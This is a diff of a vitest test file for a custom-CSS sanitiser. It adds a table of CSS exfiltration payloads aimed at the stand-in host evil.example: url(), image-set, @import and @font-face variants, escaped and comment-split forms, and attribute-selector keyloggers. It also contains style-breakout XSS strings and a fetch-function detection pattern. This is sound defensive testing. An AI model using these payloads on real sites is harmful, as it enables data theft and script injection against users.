@@ -1,151 +1,157 @@
+import { readFileSync } from 'node:fs';
+import { TokenType, tokenize } from '@csstools/css-tokenizer';
 import { describe, expect, it } from 'vitest';
-import { isSameOriginRelativeUrl, sanitizeCustomCss } from './custom-css';
+import { checkCustomCss } from './custom-css';
 
-describe('sanitizeCustomCss', () => {
-  it('keeps ordinary CSS unchanged', () => {
-    const css =
-      '.header > .logo { width: 120px; color: #fff; }\n' +
-      '@media (max-width: 600px) { .menu a:hover { background: url(/img/bg.png) no-repeat; } }\n' +
-      '.icon::before { content: "\\201C"; font-family: "Icons"; }\n' +
-      '.\\31 0 { margin: 0; }';
-    expect(sanitizeCustomCss(css)).toBe(css);
+const EVIL = 'https://evil.example/k';
+
+/**
+ * Every route CSS offers to make the browser fetch something (issue 10 item 1), written the ways an
+ * attacker would: plain, escaped, split by comments, through custom properties and var() fallbacks.
+ */
+const exfiltration: Record<string, string> = {
+  'url()': `a{background:url(${EVIL})}`,
+  'quoted url()': `a{background:url("${EVIL}")}`,
+  'relative url()': 'a{background:url(/img/x.png)}',
+  'protocol-relative url()': 'a{background:url(//evil.example/k)}',
+  'backslash url()': 'a{background:url(/\\\\evil.example/k)}',
+  'URL() upper case': `a{background:URL(${EVIL})}`,
+  'escaped u': `a{background:\\75 rl(${EVIL})}`,
+  'escaped letter': `a{background:u\\rl(${EVIL})}`,
+  'comment inside the name': `a{background:u/**/rl(${EVIL})}`,
+  'escape split by a comment': `a{background:u\\/**/72l(${EVIL})}`,
+  'escaped scheme inside url()': 'a{background:url(ht\\74ps://evil.example/k)}',
+  'image-set()': `a{background-image:image-set("${EVIL}" 1x)}`,
+  '-webkit-image-set()': `a{background-image:-webkit-image-set("${EVIL}" 1x)}`,
+  'custom property into image-set()': `:root{--k:"${EVIL}"} input{background-image:image-set(var(--k) 1x)}`,
+  'custom property into -webkit-image-set()': `:root{--k:"${EVIL}"} a{background:-webkit-image-set(var(--k) 1x)}`,
+  'custom property holding url()': `:root{--k:url(${EVIL})} a{background:var(--k)}`,
+  'custom property holding image-set()': `:root{--k:image-set("${EVIL}" 1x)} a{background:var(--k)}`,
+  'var() fallback with url()': `a{background:var(--none, url(${EVIL}))}`,
+  'var() fallback with image-set()': `a{background:var(--none, image-set("${EVIL}" 1x))}`,
+  'image()': `a{background:image("${EVIL}")}`,
+  'cross-fade()': `a{background:cross-fade(url(${EVIL}), url(${EVIL}), 50%)}`,
+  'element()': 'a{background:element(#x)}',
+  'src()': `a{background:src("${EVIL}")}`,
+  'attr() as a URL': 'a{background-image:attr(data-x type(<url>))}',
+  '@import url': `@import url(${EVIL});`,
+  '@import string': `@import "${EVIL}";`,
+  '@import escaped': `@\\69mport "${EVIL}";`,
+  '@import split by a comment': `@im/**/port "${EVIL}";`,
+  '@font-face': `@font-face{font-family:x;src:url(${EVIL})} a{font-family:x}`,
+  '@font-face local + string': `@font-face{font-family:x;src:local(x), "${EVIL}"}`,
+  '@namespace': `@namespace x "${EVIL}";`,
+  '@property initial-value': `@property --k{syntax:"<url>";inherits:false;initial-value:url(${EVIL})}`,
+  '@counter-style symbols': `@counter-style x{system:cyclic;symbols:url(${EVIL})}`,
+  'cursor': `a{cursor:url(${EVIL}), auto}`,
+  'mask': `a{mask:url(${EVIL})}`,
+  '-webkit-mask-image': `a{-webkit-mask-image:url(${EVIL})}`,
+  'border-image': `a{border-image:url(${EVIL}) 30 round}`,
+  'border-image-source': `a{border-image-source:url(${EVIL})}`,
+  'list-style-image': `li{list-style-image:url(${EVIL})}`,
+  'list-style shorthand': `li{list-style:square url(${EVIL})}`,
+  'content url()': `a::after{content:url(${EVIL})}`,
+  'filter url()': `a{filter:url(${EVIL}#f)}`,
+  'clip-path url()': `a{clip-path:url(${EVIL}#c)}`,
+  'shape-outside': `a{shape-outside:url(${EVIL})}`,
+  'behavior': 'a{behavior:url(x.htc)}',
+  '-moz-binding': 'a{-moz-binding:url(x.xml#y)}',
+  'expression()': 'a{width:expression(alert(1))}',
+  'keylogger on value': `input[value$="a"]{background:url(${EVIL}?a)}`,
+  'keylogger without url': 'input[value^="a"]{color:red}',
+  'keylogger on placeholder-less escape': 'input[v\\61lue$="a"]{color:red}',
+  'keylogger in :has()': 'form:has(input[value$="a"]){color:red}',
+  'style breakout': `a{}</style><img src=x onerror=alert(1)><style>`,
+  'style breakout in a string': 'a::after{content:"</style><script>alert(1)</script>"}',
+  'html comment tokens': '<!-- a{color:red} -->',
+  'bad url': 'a{background:url(a"b) red}',
+  'unclosed url': `a{background:url(${EVIL}`,
+  'media url': `@media (min-width:1px){a{background:url(${EVIL})}}`,
+  'supports with image-set': `@supports (background:image-set("x" 1x)){a{background:image-set("${EVIL}" 1x)}}`,
+  'keyframes with url': `@keyframes k{from{background:url(${EVIL})}} a{animation:k 1s}`,
+  'nested rule with url': `a{color:red; &:hover{background:url(${EVIL})}}`,
+  'escaped var()': `:root{--k:"${EVIL}"} a{background:image-set(v\\61r(--k) 1x)}`,
+};
+
+const ALLOWED_AT_RULES = new Set(['media', 'supports', 'container', 'layer', 'keyframes', '-webkit-keyframes']);
+const FETCHING = /^(?:-webkit-)?(?:image-set|image|src|cross-fade|element|url|attr|expression)$/i;
+
+/** What must hold for any output: read back by the same tokenizer the browser follows. */
+function expectNothingFetches(css: string) {
+  for (const token of tokenize({ css })) {
+    expect(token[0], `token ${token[1]}`).not.toBe(TokenType.URL);
+    expect(token[0]).not.toBe(TokenType.BadURL);
+    expect(token[0]).not.toBe(TokenType.CDO);
+    if (token[0] === TokenType.Function) expect(token[4].value).not.toMatch(FETCHING);
+    if (token[0] === TokenType.AtKeyword) expect(ALLOWED_AT_RULES.has(token[4].value.toLowerCase()), `@${token[4].value}`).toBe(true);
+    if (token[0] === TokenType.Ident) expect(token[4].value.toLowerCase()).not.toBe('value');
+    // A string is text (nothing above can fetch it); anything else naming the host is a finding.
+    if (token[0] !== TokenType.String) expect(token[1]).not.toContain('evil.example');
+  }
+  expect(css).not.toContain('<');
+}
+
+describe('checkCustomCss: nothing can make the browser fetch', () => {
+  it.each(Object.entries(exfiltration))('%s', (_name, css) => {
+    const { css: out } = checkCustomCss(css);
+    expectNothingFetches(out);
+    expect(checkCustomCss(out).css, 'checking the output again changes nothing').toBe(out);
   });
 
-  it('cannot close its style element', () => {
-    const out = sanitizeCustomCss('a{}</style><script>alert(1)</script><style>');
-    expect(out).not.toContain('<');
-    expect(out).toBe('a{}\\3C /style>\\3C script>alert(1)\\3C /script>\\3C style>');
-    expect(sanitizeCustomCss('</STYLE >')).not.toMatch(/<\/style/i);
-  });
-
-  it('keeps "<" inside a string meaningful through the CSS escape', () => {
-    expect(sanitizeCustomCss('.a::after { content: "<" }')).toBe('.a::after { content: "\\3C " }');
-  });
-
-  it('removes @import rules in every spelling', () => {
-    expect(sanitizeCustomCss('@import url(https://evil.example/x.css); a{color:red}')).toBe('  a{color:red}');
-    expect(sanitizeCustomCss('@import "https://evil.example/x.css";a{}')).toBe(' a{}');
-    expect(sanitizeCustomCss("@IMPORT 'x.css'")).toBe(' ');
-    expect(sanitizeCustomCss('@\\69mport "https://evil.example/x.css";')).toBe(' ');
-    expect(sanitizeCustomCss('@\\000069 mport "https://evil.example/x.css";')).toBe(' ');
-    expect(sanitizeCustomCss('@im/**/port "https://evil.example/x.css";')).toBe(' ');
-    expect(sanitizeCustomCss('@im@import x;port "https://evil.example/x.css";')).not.toMatch(/@import/i);
-  });
-
-  it('replaces remote url() by none and keeps relative ones', () => {
-    expect(sanitizeCustomCss('a{background:url(https://evil.example/p.gif)}')).toBe('a{background:none}');
-    expect(sanitizeCustomCss('a{background:url("http://evil.example/p.gif") no-repeat}')).toBe('a{background:none no-repeat}');
-    expect(sanitizeCustomCss("a{background:url( '//evil.example/p.gif' )}")).toBe('a{background:none}');
-    // In CSS `\\` is one backslash, which the URL parser reads as a slash.
-    expect(sanitizeCustomCss('a{background:url(/\\\\evil.example/p.gif)}')).toBe('a{background:none}');
-    // `\e` is an escape (U+000E), so this one is a harmless relative path.
-    expect(sanitizeCustomCss('a{background:url(/\\evil.example/p.gif)}')).toBe('a{background:url(/\\evil.example/p.gif)}');
-    expect(sanitizeCustomCss('a{background:url(data:image/png;base64,AAAA)}')).toBe('a{background:none}');
-    expect(sanitizeCustomCss('a{background:url(img/ok.png)}')).toBe('a{background:url(img/ok.png)}');
-    expect(sanitizeCustomCss('a{background:url("../ok.png")}')).toBe('a{background:url("../ok.png")}');
-  });
-
-  it('sees through escapes, comments and case in url()', () => {
-    expect(sanitizeCustomCss('a{background:URL(https://evil.example/p.gif)}')).toBe('a{background:none}');
-    expect(sanitizeCustomCss('a{background:\\75 rl(https://evil.example/p.gif)}')).toBe('a{background:none}');
-    expect(sanitizeCustomCss('a{background:u\\rl(https://evil.example/p.gif)}')).toBe('a{background:none}');
-    expect(sanitizeCustomCss('a{background:u/**/rl(https://evil.example/p.gif)}')).toBe('a{background:none}');
-    expect(sanitizeCustomCss('a{background:url(ht\\74ps://evil.example/p.gif)}')).toBe('a{background:none}');
-    expect(sanitizeCustomCss('a{background:url("ht\\74ps://evil.example")}')).toBe('a{background:none}');
-    expect(sanitizeCustomCss('a{background:url(\\2f\\2f evil.example/p.gif)}')).toBe('a{background:none}');
-  });
-
-  it('does not let an escaped slash and a comment assemble an escape', () => {
-    const out = sanitizeCustomCss('a{background:u\\/**/72l(https://evil.example/p.gif)}');
-    expect(out).not.toContain('evil.example');
-  });
-
-  it('checks every url( even when an earlier one is malformed', () => {
-    const out = sanitizeCustomCss('a{background:url(a"b) url(https://evil.example/p.gif)}');
-    expect(out).not.toContain('evil.example');
-  });
-
-  it('catches the CSS keylogger pattern', () => {
-    const out = sanitizeCustomCss('input[value^="a"]{background-image:url("https://evil.example/?k=a")}');
-    expect(out).toBe('input[value^="a"]{background-image:none}');
-  });
-
-  it('replaces image-set, image and src with remote strings', () => {
-    expect(sanitizeCustomCss('a{background-image:image-set("https://evil.example/a.png" 1x)}')).toBe('a{background-image:none}');
-    expect(sanitizeCustomCss('a{background-image:-webkit-image-set("//evil.example/a.png" 1x)}')).toBe(
-      'a{background-image:none}',
-    );
-    expect(sanitizeCustomCss('a{background-image:image("https://evil.example/a.png")}')).toBe('a{background-image:none}');
-    expect(sanitizeCustomCss('@font-face{src:src("https://evil.example/f.woff")}')).toBe('@font-face{src:none}');
-    expect(sanitizeCustomCss('a{background-image:image-set("a.png" 1x, "b.png" 2x)}')).toBe(
-      'a{background-image:image-set("a.png" 1x, "b.png" 2x)}',
-    );
-  });
-
-  it('neutralises script in old engines', () => {
-    expect(sanitizeCustomCss('a{width:expression(alert(1))}')).toBe('a{width:blocked(alert(1))}');
-    expect(sanitizeCustomCss('a{width:exp/**/ression (alert(1))}')).toBe('a{width:blocked(alert(1))}');
-    expect(sanitizeCustomCss('a{behavior:url(x.htc)}')).toBe('a{blocked:url(x.htc)}');
-    expect(sanitizeCustomCss('a{-moz-binding:url(x.xml#y)}')).toBe('a{blocked:url(x.xml#y)}');
-    expect(sanitizeCustomCss('a{background:javascript:alert(1)}')).toBe('a{background:blocked:alert(1)}');
-    expect(sanitizeCustomCss('a{background:vbscript :x}')).toBe('a{background:blocked:x}');
-  });
-
-  it('is stable: sanitising twice changes nothing', () => {
-    const inputs = [
-      'a{}</style>',
-      '@im@import x;port "https://evil.example/x.css";',
-      'a{background:u\\/**/72l(https://evil.example/p.gif)}',
-      '.a::after{content:"<\\3C"}',
-      'a{background:url(a"b) url(https://evil.example/p.gif)}',
-    ];
-    for (const input of inputs) {
-      const once = sanitizeCustomCss(input);
-      expect(sanitizeCustomCss(once)).toBe(once);
-    }
-  });
-
-  it('gives an empty string for no input', () => {
-    expect(sanitizeCustomCss('')).toBe('');
-    expect(sanitizeCustomCss(null)).toBe('');
-    expect(sanitizeCustomCss(undefined)).toBe('');
-  });
-
-  it('keeps its promises on the XSS corpus when a payload is passed as CSS', async () => {
-    const { readFileSync } = await import('node:fs');
-    const corpus = JSON.parse(readFileSync('/work/shared/corpora/xss-payloads.json', 'utf8')) as {
-      cases: { payload: string }[];
-    };
+  it('holds for every payload of the XSS corpus read as CSS', () => {
+    const corpus = JSON.parse(readFileSync('/work/shared/corpora/xss-payloads.json', 'utf8')) as { cases: { payload: string }[] };
     for (const { payload } of corpus.cases) {
-      const out = sanitizeCustomCss(payload);
-      expect(out).not.toContain('<');
-      expect(out).not.toMatch(/@import|javascript\s*:|expression\s*\(|url\(\s*['"]?\s*(https?:|data:|\/\/)/i);
+      const { css } = checkCustomCss(payload);
+      expectNothingFetches(css);
     }
   });
 });
 
-describe('isSameOriginRelativeUrl', () => {
-  it.each(['img/a.png', '/img/a.png', '../a.png', '?v=1', '#frag', '', ' /a.png ', 'a:b/../c'.replace(':', '%3A')])(
-    'allows %j',
-    (url) => {
-      expect(isSameOriginRelativeUrl(url)).toBe(true);
-    },
-  );
+describe('checkCustomCss: what may pass', () => {
+  it('keeps ordinary styling: colours, maths, gradients, media, supports, keyframes, custom properties', () => {
+    const css = [
+      ':root { --brand: #e2001a; --gap: calc(4px * 2) }',
+      '.header > .logo { width: 120px; color: var(--brand, rgb(0 0 0 / 50%)) !important }',
+      'a:hover, a:focus-visible { background: linear-gradient(90deg, #fff 0%, hsl(10 50% 50%) 100%) }',
+      '@media (max-width: 600px) { .menu a:not(.active) { padding: clamp(4px, 1vw, 8px) } }',
+      '@supports (display: grid) { .grid { grid-template-columns: repeat(3, minmax(0, 1fr)) } }',
+      '@keyframes spin { from { transform: rotate(0deg) } to { transform: rotate(360deg) } }',
+      'button[aria-expanded="true"], [type=submit] { font-family: "Open Sans", sans-serif }',
+      '.icon::before { content: "\\201C" }',
+    ].join('\n');
+    const { css: out, warnings } = checkCustomCss(css);
+    expect(warnings).toEqual([]);
+    for (const piece of ['--brand: #e2001a', 'var(--brand, rgb(0 0 0 / 50%)) !important', 'linear-gradient(90deg', '@media (max-width: 600px)',
+      ':not(.active)', 'clamp(4px, 1vw, 8px)', '@supports (display: grid)', 'repeat(3, minmax(0, 1fr))', '@keyframes spin',
+      'rotate(360deg)', 'button[aria-expanded="true"], [type=submit]', '"Open Sans", sans-serif', 'content: "\u201C"']) {
+      expect(out).toContain(piece);
+    }
+  });
 
-  it.each([
-    'https://evil.example',
-    'HTTP://evil.example',
-    '//evil.example',
-    '\\\\evil.example',
-    '/\\evil.example',
-    '\\/evil.example',
-    '/\t/evil.example',
-    ' \u0001//evil.example',
-    'data:image/png;base64,AAAA',
-    'javascript:alert(1)',
-    'java\nscript:alert(1)',
-    'blob:x',
-  ])('refuses %j', (url) => {
-    expect(isSameOriginRelativeUrl(url)).toBe(false);
+  it('drops only the failing declaration or rule, with a warning naming it', () => {
+    const { css, warnings } = checkCustomCss(
+      `.a { color: red; background: url(${EVIL}); margin: 0 }\ninput[value$="x"] { color: blue }\n@import "x.css";\n.b { color: green }`,
+    );
+    expect(css).toBe('.a { color: red; margin: 0 }\n.b { color: green }');
+    expect(warnings).toEqual([
+      'declaration dropped (line 1, column 18): url() is not allowed',
+      'rule dropped (line 2, column 1): attribute selector [value] is not allowed',
+      'rule dropped (line 3, column 1): @import is not allowed',
+    ]);
+  });
+
+  it('serialises strings itself: no "<" reaches the style sheet', () => {
+    expect(checkCustomCss('.a::after { content: "</style>" }').css).toBe('.a::after { content: "\\3c /style>" }');
+  });
+
+  it('judges escapes on their decoded value', () => {
+    expect(checkCustomCss('.a { color: r\\65 d }').css).toBe('.a { color: r\\65 d }');
+    expect(checkCustomCss('.a { background: \\75 rl(x) }').warnings).toHaveLength(1);
+  });
+
+  it('gives an empty sheet for no input', () => {
+    expect(checkCustomCss('')).toEqual({ css: '', warnings: [] });
+    expect(checkCustomCss(null)).toEqual({ css: '', warnings: [] });
+    expect(checkCustomCss(undefined)).toEqual({ css: '', warnings: [] });
   });
 });
